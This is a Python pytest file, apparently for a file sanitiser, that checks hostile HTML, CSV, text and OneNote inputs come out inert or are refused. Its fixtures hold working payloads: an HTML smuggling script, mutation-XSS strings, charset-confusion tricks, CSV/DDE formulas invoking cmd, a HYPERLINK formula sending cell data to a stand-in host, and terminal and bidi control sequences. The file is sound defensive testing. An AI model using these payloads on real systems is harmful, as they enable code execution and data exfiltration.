"""The catalogue of dangers in pages, tables and texts, one built case each, through the whole engine; and that no case is without its test."""

from __future__ import annotations

import csv
import io
import unicodedata

import pytest
from lxml import html as second_parser

import tests.sanitizers.formats.archive.test_cases as archives
from sanitizers.context import Outcome
from sanitizers.model import Reason, Verdict
from tests.build.context import run
from tests.build.text import ENCODINGS, LINES, encoded

CASES = frozenset(
    (*(f"a{number:02}" for number in range(1, 13)), "n01", "n02", "n03", "h01", "h02", "h03", "c01", "c02", "t01", "t02", "x01")
)


def delivered(data: bytes, name: str) -> tuple[bytes, Outcome]:
    """What comes out; sanitising it again changes not one byte."""
    outcome = run(data, name)
    assert outcome.content is not None, outcome.report
    made = outcome.content.bytes()
    again = run(made, name)
    assert again.report.verdict is Verdict.CLEAN
    assert again.content is not None
    assert again.content.bytes() == made
    return made, outcome


def refused(data: bytes, name: str) -> tuple[Verdict, Reason | None]:
    outcome = run(data, name)
    assert outcome.content is None
    return outcome.report.verdict, outcome.report.reason


def test_every_case_of_the_catalogue_has_its_test() -> None:
    names = (*vars(archives), *globals())
    assert {name.split("_")[1] for name in names if name.startswith("test_")} >= CASES


SMUGGLING = """<html><body><p>本文</p><a id="d" href="data:application/zip;base64,UEsDBA==" download="a.zip">取得</a><script>
const blob = new Blob([Uint8Array.from(atob("TVqQAAMA"), c => c.charCodeAt(0))]); const a = document.createElement("a");
a.href = URL.createObjectURL(blob); a.download = "invoice.exe"; a.click();</script></body></html>"""


@pytest.mark.parametrize("encoding", ["utf-8", "cp932", "utf-16"])
def test_h01_a_page_that_builds_a_file_is_only_words(encoding: str) -> None:
    made, _ = delivered(SMUGGLING.encode(encoding), "a.html")
    page = second_parser.document_fromstring(made)
    assert "".join(page.text_content().split()) == "本文取得"
    assert not page.xpath("//script | //@href | //@download")
    assert not [word for word in (b"atob", b"Blob", b"blob:", b"data:", b"TVqQ", b"UEsDB") if word in made]


H02 = {
    "refresh": '<meta http-equiv="refresh" content="0;url=http://192.0.2.1/">', "base": '<base href="http://192.0.2.1/">',
    "form": '<form action="http://192.0.2.1/"><input name="p" type="password" autofocus onfocus="x()"></form>',
    "iframe": '<iframe srcdoc="&lt;script&gt;x()&lt;/script&gt;"></iframe>', "object": '<object data="http://192.0.2.1/x.swf"></object>',
    "link": '<link rel="import" href="http://192.0.2.1/x.html">', "style": "<style>*{background:url(http://192.0.2.1/)}</style>",
    "svg": '<svg><use href="data:image/svg+xml,x#x"/><animate onbegin="x()"/><script>x()</script></svg>',
    "math": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=x()&gt;">',
    "style in svg": '<svg></p><style><a id="</style><img src=1 onerror=x()>">',
    "form in form": "<form><math><mtext></form><form><mglyph><style></math><img src=1 onerror=x()>",
    "noscript": '<noscript><p title="</noscript><img src=1 onerror=x()>">', "comment": "<!--><img src=1 onerror=x()>-->",
    "select": "<select><template><img src=1 onerror=x()></template><style><img src=1 onerror=x()></style></select>",
    "xmp": '<xmp><p id="</xmp><img src=1 onerror=x()>"></xmp>', "bang": "<!--!><img src=1 onerror=x()>--!>",
    "desc": "<svg><desc><svg><desc><![CDATA[</desc><img src=1 onerror=x()>]]></desc></svg></desc></svg>",
}  # fmt: skip
ACTS = (
    "//script | //style | //iframe | //object | //embed | //form | //input | //base | //link | //img | //svg | //math | //template "
    "| //@*[starts-with(name(), 'on')] | //@src | //@srcdoc | //@action | //@background | //meta[@http-equiv] | //comment()"
)


@pytest.mark.parametrize("kind", H02)
def test_h02_nothing_acts_or_loads_for_a_second_parser_either(kind: str) -> None:
    made, outcome = delivered(f"<html><body><p>前</p>{H02[kind]}<p>後</p></body></html>".encode(), "a.html")
    page = second_parser.document_fromstring(made)
    assert page.xpath(ACTS) == []
    assert b"192.0.2.1" not in made
    assert "前" in page.text_content()
    assert kind in ("noscript", "bang") or outcome.report.verdict is Verdict.SANITIZED


H03 = {
    "UTF-7": b'<meta charset="utf-7"><p>+ADw-script+AD4-x()+ADw-/script+AD4-</p>',
    "UTF-16 without a mark": "<p>日本語</p><script>x()</script><p>more words in ASCII</p>".encode("utf-16-le"),
    "an escape that swallows a quote": b'<meta charset="iso-2022-jp"><p title="\x1b$B">a</p>\x1b(B<p id="><script>x()</script>">b</p>',
    "an escape under another label": b'<meta charset="utf-8"><p title="\x1b$B$"\x1b(B" onclick="x()">a</p><script>x()</script>',
    "two labels": b'<meta charset="utf-8"><meta charset="utf-7"><p>+ADw-script+AD4-x()</p>',
    "a lead byte before a quote": b'<meta charset="shift_jis"><p title="\x81"><script>x()</script>"></p>',
    "too long a form": b"<p>\xc0\xbcscript\xc0\xbex()\xc0\xbc/script\xc0\xbe</p>",
}


@pytest.mark.parametrize("kind", H03)
def test_h03_one_reading_of_the_bytes_or_none(kind: str) -> None:
    """What comes out is UTF-8 and means the same to whoever takes it for anything else that lets ASCII be ASCII."""
    outcome = run(H03[kind], "a.html")
    if outcome.content is None:
        assert outcome.report.verdict is Verdict.HELD
        return
    made, _ = delivered(H03[kind], "a.html")
    assert b'<meta charset="utf-8">' in made
    assert b"\x1b" not in made
    for reading in ("utf-8", "cp932", "latin-1"):
        assert second_parser.document_fromstring(made.decode(reading, "replace")).xpath(ACTS) == []


C01 = (
    "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "＝1+1", "＠SUM(A1)", "＋A1", "−cmd|' /C calc'!A0",
    '=HYPERLINK("http://192.0.2.1/?"&A1,"x")',
)  # fmt: skip
RUNS = tuple("=+-@\t\r＝＋－＠−")


@pytest.mark.parametrize("danger", C01)
@pytest.mark.parametrize("frame", ["{}", "a,{}", "a\r\n{}", '"a\r\n{}",b', "a;{};b", '"{}"', "\ufeff{}", " {}", "a\t{}"])
@pytest.mark.parametrize("encoding", ["utf-8", "cp932", "utf-16"])
def test_c01_no_cell_runs_whatever_the_separator(danger: str, frame: str, encoding: str) -> None:
    text = frame.format(danger.replace('"', '""') if '"' in frame else danger) + "\r\nx,y,z\r\nx,y,z\r\n"
    if encoding == "cp932" and ("\ufeff" in text or "−" in text):
        encoding = "utf-8"
    made, outcome = delivered(text.encode(encoding), "a.csv")
    assert "csv.formula" in {finding.code for finding in outcome.report.findings}
    read = made.decode(encoding).lstrip("\ufeff")
    for separator in ",;\t":
        for row in csv.reader(io.StringIO(read, newline=""), delimiter=separator):
            assert not [cell for cell in row for line in cell.split("\n") if line.strip(' "').startswith(RUNS) and "cmd" in line]
    assert "'" + danger.strip()[0] in read or "'" + danger[0] in read


def test_c01_numbers_stay_numbers() -> None:
    text = '-1,+81-3-1234-5678,-1.5E+10,"-1,234",2026/11/20,－３,00123,△12\r\n'
    made, outcome = delivered(text.encode("cp932"), "a.csv")
    assert outcome.report.verdict is Verdict.CLEAN
    assert made == text.encode("cp932")


C02 = {
    "SLK": b'ID;PWXL;N;E\r\nO;E\r\nNN;NAuto_open;ER1C1\r\nC;X1;Y1;EEXEC("calc")\r\nE\r\n',
    "DIF": b'TABLE\r\n0,1\r\n"EXCEL"\r\nVECTORS\r\n0,1\r\n""\r\nTUPLES\r\n0,1\r\n""\r\nDATA\r\n0,0\r\n""\r\n-1,0\r\nBOT\r\n1,0\r\n"=1+1"\r\n-1,0\r\nEOD\r\n',
    "IQY": b"WEB\r\n1\r\nhttp://192.0.2.1/x\r\n\r\nSelection=1\r\n",
}


@pytest.mark.parametrize("kind", C02)
@pytest.mark.parametrize("name", ["a.csv", "a.xls", "a.txt", "a.{}"])
def test_c02_other_tables_do_not_pass_for_a_csv(kind: str, name: str) -> None:
    assert refused(C02[kind], name.format(kind.lower()))[1] in (Reason.FORBIDDEN_KIND, Reason.UNSUPPORTED_KIND)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-8-sig"])
def test_t01_no_control_character_leaves(encoding: str) -> None:
    dirty = "\x1b[2J\x1b]0;evil\x07見える\x00文字\x9b31m\u202eexe.txt\u2066\u200b\x08\x7f http://раypal.example/\r\n"
    made, outcome = delivered(dirty.encode(encoding), "a.txt")
    text = made.decode(encoding)
    assert {"text.control_characters", "text.bidi_override", "text.invisible"} <= {finding.code for finding in outcome.report.findings}
    assert not [char for char in text if unicodedata.category(char) in ("Cc", "Cf") and char not in "\t\r\n"]
    assert "見える文字" in text
    assert "http://раypal.example/" in text, "what can be read stays as it is written"


@pytest.mark.parametrize("encoding", ENCODINGS)
@pytest.mark.parametrize("name", ["a.txt", "a.csv"])
def test_t02_japanese_in_every_encoding_keeps_every_byte(encoding: str, name: str) -> None:
    lines = [line for line in LINES if name == "a.txt" or not line.startswith("－")]
    data = encoded("".join(f"{line}\r\n" for line in lines).replace("，", "、"), encoding)
    made, outcome = delivered(data, name)
    assert outcome.report.verdict is Verdict.CLEAN
    assert made == data


@pytest.mark.parametrize("name", ["a.one", "a.docx", "a.txt", "a"])
def test_x01_a_notebook_is_blocked_by_content(name: str) -> None:
    data = bytes.fromhex("E4525C7B8CD8A74DAEB15378D02996D3") + bytes(2000) + bytes.fromhex("E716E3BD65261145A4C48D4D0B7A9EAC") + b"MZ payload"
    assert refused(data, name) == (Verdict.BLOCKED, Reason.FORBIDDEN_KIND)
